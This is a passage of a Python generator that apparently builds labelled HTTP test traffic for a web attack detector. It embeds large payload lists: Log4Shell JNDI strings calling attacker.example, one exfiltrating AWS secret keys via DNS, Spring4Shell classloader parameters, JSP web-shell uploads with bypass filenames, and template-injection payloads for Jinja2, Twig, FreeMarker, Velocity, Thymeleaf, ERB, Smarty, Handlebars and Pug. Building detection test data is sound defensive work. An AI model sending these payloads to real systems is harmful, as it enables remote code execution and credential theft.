    "${jndi:nds://attacker.example/a}",
    "${jndi:http://attacker.example/a}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${upper:j}ndi:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${jndi:dns://${sys:java.version}.attacker.example}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${jNdI:LdAp://attacker.example/a}",
    "${${::-${::-$${::-j}}}}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    ("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "pre"),
    ("%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D", "pre"),
    ("\\u0024\\u007bjndi:ldap://attacker.example/a}", "ju"),
    ("&#36;&#123;jndi:ldap://attacker.example/a&#125;", "xmlent"),
]

SPRING4SHELL = ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if("
                "%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec"
                "(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di")
JAVA_CLASSLOADING: list[Entry] = [
    (SPRING4SHELL, "qs"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "qs"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", "qs"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", "qs"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "qs"),
    ("class.classLoader.resources.dirContext.docBase=/", "qs"),
    ("class['classLoader'].resources.dirContext.docBase=/", "qs"),
    ("Class.classLoader.resources.dirContext.aliases=/x=/etc", "qs"),
    ("class[module][classLoader][resources][context][parent][pipeline][first][pattern]=x", "qs"),
    ("class.classLoader.URLs[0]=jar:http://attacker.example/exp.jar!/", "qs"),
    ("class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Esuffix=.jsp", "qs"),
    ("{\"class\":{\"module\":{\"classLoader\":{\"resources\":{\"context\":{\"parent\":{\"pipeline\":{\"first\":"
     "{\"pattern\":\"x\"}}}}}}}}}", "jsondoc"),
    ("class.classLoader.resources.dirContext.docBase=/", "cookie"),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\").newInstance()",
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"$$BCEL$$$l$8b$I$A$A$A$A\")",
    "${''.getClass().getClassLoader()}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
]

JSP_SHELL = "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
JSPX_SHELL = ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime()"
              ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>")
JSP_UPLOAD: list[Entry] = [
    ("shell.jsp", "upload", JSP_SHELL),
    ("cmd.jspx", "upload", JSPX_SHELL),
    ("x.JSP", "upload", JSP_SHELL),
    ("a.jsp%00.jpg", "upload", JSP_SHELL),
    ("b.jsp.", "upload", JSP_SHELL),
    ("c.jsp::$DATA", "upload", JSP_SHELL),
    ("d.jsp;.jpg", "upload", JSP_SHELL),
    ("e.jspf", "upload", JSP_SHELL),
    ("f.jsw", "upload", JSP_SHELL),
    ("avatar.png.jsp", "upload", "GIF89a" + JSP_SHELL),
    ("../../webapps/ROOT/s.jsp", "upload", JSP_SHELL),
    ("i.jsp ", "upload", JSP_SHELL),
    ("Shell.JspX", "upload", JSPX_SHELL),
    ("g.jsv", "upload", JSP_SHELL),
    ("index.jsp", "upload", "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request"
     ".getParameter(\"cmd\")); %>"),
]

# ------------------------------------------------------------------------------------------------------- ssti
JINJA2: list[Entry] = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f') }}",
    "{{ url_for.__globals__.os.environ }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{%print(config)%}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    ("%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D", "pre"),
    ("\\u007b\\u007b cycler.__init__.__globals__.os.popen('id').read() \\u007d\\u007d", "ju"),
]

TWIG: list[Entry] = [
    "{{7*'7'}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{['id',1]|sort('system')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{% set cmd = 'id' %}{{ [cmd]|filter('shell_exec')|first }}",
    "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
    "{{ source('/etc/passwd') }}",
    "{{ ['id'] | filter ( 'system' ) }}",
    ("%7B%7B%5B%27id%27%5D%7Cfilter%28%27system%27%29%7D%7D", "pre"),
    ("\\u007b\\u007b['id']|map('system')|join\\u007d\\u007d", "ju"),
]

FREEMARKER: list[Entry] = [
    "${7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign oc=\"freemarker.template.utility.ObjectConstructor\"?new()>${oc(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass(\"freemarker.template."
    "ObjectWrapper\")>",
    "${user?api.getClass().forName(\"java.lang.Runtime\")}",
    "<#include \"/etc/passwd\">",
    "<#list .data_model?keys as k>${k}</#list>",
    ("%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew%28%29%3E%24%7Bex%28%22id%22%29%7D",
     "pre"),
    ("\\u003c#assign ex=\\\"freemarker.template.utility.Execute\\\"?new()\\u003e${ex(\\\"id\\\")}", "ju"),
    ("&lt;#assign ex=\"freemarker.template.utility.Execute\"?new()&gt;${ex(\"id\")}", "xmlent"),
]

VELOCITY: list[Entry] = [
    "#set($x=7*7)${x}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#evaluate('$x.class.forName(\"java.lang.Runtime\")')",
    "#include(\"/etc/passwd\")",
    "#parse(\"/etc/passwd\")",
    "$request.getClass().getClassLoader()",
    "#foreach($i in [1..999999999])#end",
    "$!{x.class.forName('java.lang.Runtime').getRuntime().exec('id')}",
    "#set( $rt = $x.class.forName( 'java.lang.Runtime' ) )",
    ("%23set%28%24x%3D%27%27%29%23set%28%24rt%3D%24x.class.forName%28%27java.lang.Runtime%27%29%29"
     "%24rt.getRuntime%28%29.exec%28%27id%27%29", "pre"),
    ("#set(\\u0024e=\\\"e\\\")\\u0024e.getClass().forName(\\\"java.lang.Runtime\\\")", "ju"),
]

THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "${T(java.lang.Runtime).getRuntime().exec('calc')}",
    "*{T(java.lang.System).getenv()}",
    "[[${7*7}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('id')}__}",
    "__|$${#response.addHeader(\"x-ssti\",\"1\")}|__::",
    "${#rt = @java.lang.Runtime@getRuntime(), #rt.exec('id')}",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
    "@{/x(id=${T(java.lang.Runtime).getRuntime().exec('id')})}",
    "__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    ("__%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%22id%22%29%7D__%3A%3A.x", "pre"),
    ("__\\u0024{T(java.lang.Runtime).getRuntime().exec(\\\"id\\\")}__::.x", "ju"),
]

ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= system('id') %>",
    "<%= `cat /etc/passwd` %>",
    "<%= IO.popen('id').readlines().join %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= ENV.to_h %>",
    "<%- Kernel.exec(\"id\") -%>",
    "<%= eval(\"`id`\") %>",
    "<%= Object.const_get('Kernel').send(:system, 'id') %>",
    "<%== `id` %>",
    ("%3C%25%3D%20%60id%60%20%25%3E", "pre"),
    ("\\u003c%= `id` %\\u003e", "ju"),
    ("&lt;%= system(\"id\") %&gt;", "xmlent"),
]

SMARTY: list[Entry] = [
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{$smarty.version}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('cat /etc/passwd')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/etc/passwd'}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
    "{'id'|passthru}",
    "{eval var=\"{system('id')}\"}",
    ("%7Bsystem%28%27id%27%29%7D", "pre"),
    ("\\u007bphp\\u007decho `id`;\\u007b/php\\u007d", "ju"),
]

HANDLEBARS_CHAIN = (
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
    "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}"
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)
HANDLEBARS: list[Entry] = [
    HANDLEBARS_CHAIN,
    "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"constructor\")}}{{this \"return process\"}}"
    "{{/with}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.constructor \"return process.env\")}}{{this}}{{/with}}{{/with}}",
    "{{this.constructor.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}",
    "{{{constructor.constructor \"return process\"}}}",
    "{{#with \"constructor\"}}{{#with split as |a|}}{{pop (push \"alert(1)\")}}{{/with}}{{/with}}",
    "{{this.__proto__.constructor}}",
    "{{#with (__lookupGetter__ \"__proto__\")}}{{/with}}",
    "{{#each (lookup (lookup this \"constructor\") \"keys\")}}{{this}}{{/each}}",
    "{{> (lookup . \"constructor\") }}",
    "{{ #with \"s\" as | string | }}{{ this.push (lookup string.sub \"constructor\") }}{{ /with }}",
    ("%7B%7B%23with%20%22s%22%20as%20%7Cstring%7C%7D%7D%7B%7Bthis.push%20%28lookup%20string.sub%20%22constructor"
     "%22%29%7D%7D%7B%7B%2Fwith%7D%7D", "pre"),
    ("\\u007b\\u007blookup (lookup this \\\"constructor\\\") \\\"constructor\\\"\\u007d\\u007d", "ju"),
]

PUG: list[Entry] = [
    "#{7*7}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- var x = root.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "!{process.env}",
    "= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "p= process.mainModule.require('child_process').execSync('id').toString()",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "- global.process.mainModule.require('child_process').exec('curl http://attacker.example/$(id)')",
    "#{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}",
    "\n- var x = process.mainModule.require('child_process').execSync('id')\n= x\n",
    "!{global.process.mainModule.require('child_process').execSync('id')}",
    ("%23%7Bglobal.process.mainModule.require%28%27child_process%27%29.execSync%28%27id%27%29%7D", "pre"),
    ("\\u0023{global.process.mainModule.require('child_process').execSync('id')}", "ju"),
]

TITLES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_MODULES),
    ("generic", "nodejs-injection-code", NODE_CODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "prototype-pollution", PROTO),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-ip-address", SSRF_IP),
    ("generic", "php-data-scheme", PHP_DATA),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("java", "java-class-rce", JAVA_CLASS_RCE),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization-rce", JAVA_SER_RCE),
    ("java", "java-suspicious-class", JAVA_CLASS),
    ("java", "java-magic-bytes", JAVA_MAGIC),
    ("java", "java-magic-bytes-base64", JAVA_MAGIC_B64),
    ("java", "java-serialization-gadgets", JAVA_GADGETS),
    ("java", "java-suspicious-method", JAVA_METHOD),
    ("java", "log4shell", LOG4J),
    ("java", "java-class-loading", JAVA_CLASSLOADING),
    ("java", "java-script-upload", JSP_UPLOAD),
    ("ssti", "ssti-jinja2", JINJA2),
    ("ssti", "ssti-twig", TWIG),
    ("ssti", "ssti-freemarker", FREEMARKER),
    ("ssti", "ssti-velocity", VELOCITY),
    ("ssti", "ssti-thymeleaf", THYMELEAF),
    ("ssti", "ssti-erb", ERB),
    ("ssti", "ssti-smarty", SMARTY),
    ("ssti", "ssti-handlebars", HANDLEBARS),
    ("ssti", "ssti-pug", PUG),
]

# Where each kind of payload can go: our routes, and a regression suite's requests.
REAL: dict[str, list[str]] = {
    "": ["query", "form", "json", "path", "header:User-Agent", "cookie", "xml", "header:Referer", "param-name",
         "multipart-field", "json:slack", "header:X-Api-Version", "json:patch", "form:me"],
    "pre": ["query", "form", "cookie", "path", "form:me"],
    "ju": ["json", "json:slack", "json:patch"],
    "qs": ["param-name", "param-name:form"],
    "jsondoc": ["json", "json:patch"],
    "xmldoc": ["xml"],
    "xmlent": ["xml"],
    "upload": ["multipart-filename"],
    "cookie": ["cookie-name"],
}
RS: dict[str, list[str]] = {
    "": ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-xml", "rs-raw-body", "rs-header:Referer",
         "rs-cookie", "rs-header:X-Custom"],
    "pre": ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"],
    "ju": ["rs-json"],
    "qs": ["rs-param-name", "rs-form-name"],
    "jsondoc": ["rs-json"],
    "xmldoc": ["rs-xml"],
    "xmlent": ["rs-xml"],
    "upload": ["rs-multipart-filename"],
    "cookie": ["rs-cookie-name"],
}
HEADER_PLACES = ("header:", "rs-header:")

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 "
    "Edg/126.0.2592.68",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
]
RS_UAS = ["curl/8.5.0", "python-requests/2.31.0", BROWSER_UAS[0], BROWSER_UAS[2], "Go-http-client/1.1"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.6", "es-ES,es;q=0.9"]
APP_PAGES = ["users", "users?page=2", "admin/users", "settings/profile", "dashboard", "admin/templates",
             "reports/q3", "teams/platform"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi", "/"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
QUERY_NAMES: dict[str, list[str]] = {
    "ssrf-cloud-metadata": ["url", "webhook_url", "avatar_url", "callback", "feed"],
    "ssrf-ip-address": ["url", "target", "image_url", "callback", "proxy"],
    "php-data-scheme": ["file", "page", "template", "include"],
}
FORM_NAMES: dict[str, list[str]] = {
    "ssrf-cloud-metadata": ["import_url"], "ssrf-ip-address": ["import_url"], "php-data-scheme": ["template"],
}
JSON_FIELDS: dict[str, list[str]] = {
    "ssrf-cloud-metadata": ["website", "avatar_url", "webhook_url"],
    "ssrf-ip-address": ["website", "avatar_url", "webhook_url"],
    "php-data-scheme": ["avatar", "template", "attachment"],
}
DEFAULT_JSON_FIELDS = ["bio", "title", "display_name", "notes", "department"]
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "remind me about ", "please check "]
PEOPLE = [("Ann Lee", "ann.lee@example.com"), ("Tomás Ruiz", "tomas.ruiz@example.org"),
          ("Mei Tanaka", "mei.tanaka@example.net"), ("Joe Bloggs", "joe@example.co.uk"),
          ("Priya Nair", "priya.nair@example.com")]


def _cookie_quote(value: str) -> str:
    """A cookie value as a client writes it: no separators, controls or non-ASCII left raw."""
    return urllib.parse.quote(value, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def _header_safe(value: str) -> bool:
    return value.isascii() and all(32 <= ord(c) < 127 for c in value)


class Gen(Seeded):
    prefix = NAME
    epoch = 1719000000

    def __init__(self, seed: int) -> None:
        super().__init__(seed)
        self.turn = 0

    # ---------------------------------------------------------------------------------------------- headers
    def browser(self, accept: str, mode: str = "cors", dest: str = "empty") -> dict[str, str]:
        return {"User-Agent": self.pick(BROWSER_UAS), "Accept": accept, "Accept-Language": self.pick(LANGS),
                "Accept-Encoding": "gzip, deflate, br, zstd",
                "Referer": "https://app.example.com/" + self.pick(APP_PAGES),
                "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": mode, "Sec-Fetch-Dest": dest,
                "Cookie": f"session={self.token(24)}; cookie_consent=essential%2Canalytics"}

    def suite(self, accept: str = "*/*") -> dict[str, str]:
        return {"User-Agent": self.pick(RS_UAS), "Accept": accept}

    def boundary(self) -> str:
        chars = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789"
        return "----WebKitFormBoundary" + "".join(self.pick(chars) for _ in range(16))

    # ---------------------------------------------------------------------------------------------- bodies
    def person(self) -> dict[str, Any]:
        name, email = self.pick(PEOPLE)
        return {"name": name, "email": email, "department": self.pick(["Engineering", "Sales", "Support", "Finance"])}

    def query_uri(self, path: str, name: str, wire: str) -> str:
        parts = [f"{name}={wire}", f"page={self.rng.randint(1, 9)}", f"per_page={self.pick(['20', '50', '100'])}"]
        self.rng.shuffle(parts)
        return path + "?" + "&".join(parts)

    def multipart(self, fields: list[tuple[str, str]], files: list[tuple[str, str, str, str]]) -> tuple[str, str]:
        b = self.boundary()
        out = []
        for name, value in fields:
            out.append(f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        for field, filename, ctype, content in files:
            out.append(f"--{b}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"\r\n"
                       f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
        out.append(f"--{b}--\r\n")
        return "".join(out), f"multipart/form-data; boundary={b}"

    def json_with_raw(self, doc: dict[str, Any], key_path: list[str], raw: str) -> str:
        """`doc` as JSON with the string at key_path replaced by `raw`, a JSON string's content as written."""
        node = doc
        for k in key_path[:-1]:
            node = node[k]
        node[key_path[-1]] = "@@RAW@@"
        body = json.dumps(doc, ensure_ascii=False).replace("\"@@RAW@@\"", "\"" + raw + "\"")
        json.loads(body)   # the escaped content must stay valid JSON
        return body

    # ---------------------------------------------------------------------------------------------- places
    def real(self, place: str, sub: str, payload: str, kind: str, content: str) -> dict[str, Any]:
        qn = self.pick(QUERY_NAMES.get(sub, ["q", "search", "filter", "name"]))
        wire = payload if kind == "pre" else urllib.parse.quote(payload, safe="")
        html = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        if place == "query":
            return {"method": "GET", "uri": self.query_uri("/api/users", qn, wire), "body": "",
                    "headers": self.browser("application/json")}
        if place in ("form", "form:me"):
            fn = self.pick(FORM_NAMES.get(sub, ["q"])) if place == "form" else self.pick(["signature", "website",
                                                                                           "display_name"])
            uri = "/admin/users/search" if place == "form" else "/me/settings"
            body = f"csrf_token={self.token(24)}&{fn}={wire}"
            if place == "form:me":
                body += "&theme=dark&language=en"
            return {"method": "POST", "uri": uri, "body": body,
                    "headers": {**self.browser(html, "navigate", "document"), "Origin": "https://app.example.com",
                                "Content-Type": "application/x-www-form-urlencoded"}}
        if place in ("json", "json:patch"):
            field = self.pick(JSON_FIELDS.get(sub, DEFAULT_JSON_FIELDS))
            doc = self.person() if place == "json" else {"timezone": "Europe/Berlin"}
            method, uri = ("POST", "/api/users") if place == "json" else ("PATCH", "/api/users/42")
            if kind == "jsondoc":
                body = payload
            elif kind == "ju":
                body = self.json_with_raw(doc, [field], payload)
            else:
                doc[field] = payload
                body = json.dumps(doc, ensure_ascii=False)
            return {"method": method, "uri": uri, "body": body,
                    "headers": {**self.browser("application/json"), "Content-Type": "application/json",
                                "Origin": "https://app.example.com"}}
        if place == "json:slack":
            self.turn += 1
            lead = self.pick(SLACK_LEADS)
            event = {"type": self.pick(["message", "app_mention"]), "user": self.sid("U"), "text": "@@",
                     "ts": f"{self.epoch + self.turn}.{self.rng.randint(100000, 999999)}", "channel": self.sid("C")}
            env = {"token": self.token(18), "team_id": self.sid("T"), "api_app_id": self.sid("A"), "event": event,
                   "type": "event_callback", "event_id": self.sid("Ev", 10), "event_time": self.epoch + self.turn}
            if kind == "ju":
                body = self.json_with_raw(env, ["event", "text"], json.dumps(lead)[1:-1] + payload)
            else:
                event["text"] = lead + payload
                body = json.dumps(env, ensure_ascii=False)
            return {"method": "POST", "uri": "/slack/events", "body": body,
                    "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                                "Content-Type": "application/json",
                                "X-Slack-Request-Timestamp": str(self.epoch + self.turn),
                                "X-Slack-Signature": "v0=" + self.hexs(64)}}
        if place == "path":
            base = self.pick(["/api/users/", "/api/"])
            seg = payload if kind == "pre" else urllib.parse.quote(payload, safe="")
            return {"method": "GET", "uri": base + seg, "body": "", "headers": self.browser("application/json")}
        if place.startswith("header:"):
            h = self.browser("application/json")
            h[place.split(":", 1)[1]] = payload
            return {"method": "GET", "uri": f"/api/users?page={self.rng.randint(1, 5)}", "body": "", "headers": h}
        if place == "cookie":
            h = self.browser("application/json")
            value = payload if kind == "pre" else _cookie_quote(payload)
            h["Cookie"] = f"session={self.token(24)}; {self.pick(['prefs', 'last_search', 'lang'])}={value}"
            return {"method": "GET", "uri": "/api/users/42", "body": "", "headers": h}
        if place == "cookie-name":
            h = self.browser("application/json")
            h["Cookie"] = f"session={self.token(24)}; {payload}"
            return {"method": "GET", "uri": "/admin/users", "body": "", "headers": h}
        if place == "xml":
            inner = payload if kind == "xmlent" else escape(payload)
            body = payload if kind == "xmldoc" else (
                f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Ann Lee</name>"
                f"<email>ann.lee@example.com</email><bio>{inner}</bio></user>")
            return {"method": "POST", "uri": "/api/users", "body": body,
                    "headers": {**self.browser("application/xml"), "Content-Type": "application/xml"}}
        if place == "param-name":
            if kind == "qs":
                uri = f"/api/users?page={self.rng.randint(1, 5)}&{payload}"
            else:
                uri = f"/api/users?page={self.rng.randint(1, 5)}&{urllib.parse.quote(payload, safe='')}=1"
            return {"method": "GET", "uri": uri, "body": "", "headers": self.browser("application/json")}
        if place == "param-name:form":
            return {"method": "POST", "uri": "/admin/users/search",
                    "body": f"csrf_token={self.token(24)}&q=ann&{payload}",
                    "headers": {**self.browser(html, "navigate", "document"),
                                "Content-Type": "application/x-www-form-urlencoded"}}
        if place == "multipart-field":
            body, ctype = self.multipart([("csrf_token", self.token(24)), ("title", payload)],
                                         [("file", "notes.txt", "text/plain", "meeting notes\n")])
            return {"method": "POST", "uri": "/api/users/42/documents", "body": body,
                    "headers": {**self.browser("application/json"), "Content-Type": ctype}}
        if place == "multipart-filename":
            ctype = self.pick(["application/octet-stream", "image/jpeg", "text/plain"])
            body, mp = self.multipart([("csrf_token", self.token(24)), ("title", "avatar")],
                                      [("file", payload, ctype, content)])
            return {"method": "POST", "uri": self.pick(["/api/users/42/avatar", "/api/users/42/documents"]),
                    "body": body, "headers": {**self.browser("application/json"), "Content-Type": mp}}
        raise ValueError(place)

    def rs(self, place: str, payload: str, kind: str, content: str) -> dict[str, Any]:
        name = self.pick(RS_NAMES)
        wire = payload if kind == "pre" else urllib.parse.quote(payload, safe="")
        form = "application/x-www-form-urlencoded"
        if place == "rs-query":
            return {"method": "GET", "uri": f"{self.pick(RS_GET_PATHS)}?{name}={wire}", "body": "",
                    "headers": self.suite()}
        if place == "rs-form":
            return {"method": "POST", "uri": self.pick(RS_POST_PATHS), "body": f"{name}={wire}",
                    "headers": {**self.suite(), "Content-Type": form}}
        if place in ("rs-raw-body", "rs-form-name"):
            return {"method": "POST", "uri": self.pick(RS_POST_PATHS), "body": payload,
                    "headers": {**self.suite(), "Content-Type": form}}
        if place == "rs-json":
            if kind == "jsondoc":
                body = payload
            elif kind == "ju":
                body = self.json_with_raw({name: ""}, [name], payload)
            else:
                body = json.dumps({name: payload}, ensure_ascii=False)
            return {"method": "POST", "uri": self.pick(RS_POST_PATHS), "body": body,
                    "headers": {**self.suite("application/json"), "Content-Type": "application/json"}}
        if place == "rs-xml":
            inner = payload if kind == "xmlent" else escape(payload)
            body = payload if kind == "xmldoc" else f"<?xml version=\"1.0\"?>\n<root><{name}>{inner}</{name}></root>"
            return {"method": "POST", "uri": self.pick(RS_POST_PATHS), "body": body,
                    "headers": {**self.suite("application/xml"), "Content-Type": self.pick(["application/xml",
                                                                                            "text/xml"])}}
        if place.startswith("rs-header:"):
            h = self.suite()
            header = place.split(":", 1)[1]
            h["X-Custom-Header" if header == "X-Custom" else header] = payload
            return {"method": "GET", "uri": self.pick(RS_GET_PATHS), "body": "", "headers": h}
        if place == "rs-cookie":
            value = payload if kind == "pre" else _cookie_quote(payload)
            return {"method": "GET", "uri": self.pick(RS_GET_PATHS), "body": "",
                    "headers": {**self.suite(), "Cookie": f"{name}={value}"}}
        if place == "rs-cookie-name":
            return {"method": "GET", "uri": self.pick(RS_GET_PATHS), "body": "",
                    "headers": {**self.suite(), "Cookie": payload}}
        if place == "rs-param-name":
